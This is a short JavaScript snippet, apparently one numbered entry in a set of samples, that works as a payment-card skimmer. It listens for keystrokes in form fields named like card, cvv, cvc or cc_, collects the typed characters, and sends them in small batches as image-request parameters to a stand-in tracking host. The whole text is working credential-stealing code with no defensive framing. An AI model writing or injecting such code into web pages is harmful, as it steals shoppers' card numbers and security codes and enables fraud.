// Row 2: every key, in small pieces.
var buffer = '';
document.addEventListener('keyup', function (e) {
  var t = e.target;
  if (!t || !t.name) return;
  if (/card|cvv|cvc|cc_/i.test(t.name)) {
    buffer += t.name + ':' + e.key + ';';
  }
  if (buffer.length > 24) {
    new Image().src = 'https://px.track-keys.example/k.gif?b=' + encodeURIComponent(buffer);
    buffer = '';
  }
});
